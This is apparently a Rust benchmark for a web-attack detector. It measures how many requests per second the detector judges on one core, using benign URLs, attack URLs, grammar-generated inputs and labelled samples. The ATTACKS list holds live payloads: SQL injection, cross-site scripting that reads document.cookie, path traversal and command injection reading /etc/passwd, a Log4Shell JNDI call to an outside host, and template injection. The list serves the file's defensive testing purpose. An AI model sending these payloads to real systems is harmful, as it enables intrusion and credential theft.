//! Requests a second on one core: clean log lines, and mixes heavy with attacks.
//!
//! The first two lanes are a few dozen synthetic requests over and over: they say what the code costs.
//! The next is made of grammars that nobody has seen; the last two are the labelled requests, where
//! they are present: a real site's log, and all of them, most of which are attacks.

#![expect(
    clippy::print_stdout,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a bench prints its figures"
)]

#[path = "../tests/grammar/mod.rs"]
#[allow(dead_code, reason = "the tests use more of it")]
mod grammar;
#[path = "../tests/labelled/mod.rs"]
#[allow(dead_code, reason = "the tests use more of it")]
mod labelled;

use std::hint::black_box;
use std::time::{Duration, Instant};

use grammar::{Dice, attack, benign};
use inspect::{AccessLog, Request, inspect, inspect_access_log};

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";

const BENIGN: &[&str] = &[
    "/",
    "/index.html",
    "/images/logo.png",
    "/blog/2014/02/presentations-and-slides.html",
    "/shop/item?id=4711&colour=dark-blue&size=42",
    "/search?q=gardening+tools&page=2&sort=price",
    "/api/v1/users/42/orders?limit=50&offset=100",
    "/static/js/app.3f2c1a.js",
    "/login?next=%2Faccount%2Fsettings",
    "/reset.css",
];

const ATTACKS: &[&str] = &[
    "/item?id=1%27%20union%20select%201,2,concat(user(),0x3a,version())--%20-",
    "/item?id=1%2527%2520or%25201%253D1--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/search?q=%22%20onmouseover=alert(1)%20x=%22",
    "/download?file=../../../../etc/passwd",
    "/cgi-bin/..%5c..%5c..%5cwinnt/system32/cmd.exe?/c+dir",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "/item?id=1%20and%20sleep(5)",
    "/page?name=%7B%7B7*7%7D%7D",
];

fn main() {
    let clean: Vec<&str> = BENIGN.to_vec();
    // Three clean requests for every two attacks.
    let mixed: Vec<&str> = BENIGN
        .iter()
        .zip(ATTACKS)
        .enumerate()
        .flat_map(
            |(at, (benign, attack))| {
                if at % 3 == 0 { [*benign, *benign] } else { [*benign, *attack] }
            },
        )
        .collect();
    measure("benign", clean.len(), &targets(&clean));
    measure("mixed", mixed.len(), &targets(&mixed));
    let made = made();
    let made: Vec<&str> = made.iter().map(String::as_str).collect();
    measure("made of grammars, half attacks", made.len(), &targets(&made));
    let Some(samples) = labelled::samples() else { return };
    let headers: Vec<Vec<(&str, &str)>> = samples.iter().map(|sample| sample.headers()).collect();
    let requests: Vec<Request<'_>> =
        samples.iter().zip(&headers).map(|(sample, headers)| sample.request(headers)).collect();
    let lines: Vec<AccessLog<'_>> = samples
        .iter()
        .zip(&requests)
        .filter(|(sample, _)| sample.source == "semicomplete")
        .map(|(_, request)| AccessLog {
            method: request.method,
            target: request.target,
            referrer: header(request, "referer"),
            user_agent: header(request, "user-agent"),
        })
        .collect();
    measure("a real site's log", lines.len(), &|at| {
        inspect_access_log(black_box(&lines[at])).attack
    });
    measure("labelled, whole requests", requests.len(), &|at| {
        inspect(black_box(&requests[at])).attack
    });
}

fn header<'a>(request: &Request<'a>, wanted: &str) -> Option<&'a str> {
    let found = request.headers.iter().find(|(name, _)| name.eq_ignore_ascii_case(wanted));
    found.map(|(_, value)| *value)
}

/// Judges a target as a log line that a browser caused.
fn targets(targets: &[&str]) -> impl Fn(usize) -> bool {
    move |at| {
        inspect_access_log(&AccessLog {
            method: "GET",
            target: black_box(targets[at]),
            referrer: Some("https://www.example.com/blog/"),
            user_agent: Some(AGENT),
        })
        .attack
    }
}

/// Gives targets made of grammars, half of them attacks.
fn made() -> Vec<String> {
    let mut dice = Dice::new(3);
    let mut made = Vec::new();
    for _ in 0..50 {
        let attacks: Vec<String> =
            attack::GRAMMARS.iter().map(|(_, _, make)| make(&mut dice)).collect();
        let honest = benign::GRAMMARS.iter().map(|(_, make)| make(&mut dice));
        made.extend(
            honest.chain(attacks).map(|value| format!("/item?id={}&page=2", percent(&value))),
        );
    }
    made
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect()
}

fn measure(name: &str, count: usize, judge: &dyn Fn(usize) -> bool) {
    let begin = Instant::now();
    let cpu_begin = cpu_time();
    let mut requests = 0_u64;
    let mut attacks = 0_u64;
    while begin.elapsed() < Duration::from_secs(2) {
        for at in 0..count {
            attacks += u64::from(judge(at));
            requests += 1;
        }
    }
    let spent =
        cpu_time().zip(cpu_begin).map_or(begin.elapsed(), |(end, begin)| end.saturating_sub(begin));
    let per_second = u128::from(requests) * 1_000_000 / spent.as_micros();
    println!("{name}: {per_second} requests/s on one core, {attacks} of {requests} attacks");
}

/// The processor time of this thread, where the system tells it: other work on the machine then
/// does not count.
fn cpu_time() -> Option<Duration> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split(' ').next()?.parse().ok().map(Duration::from_nanos)
}
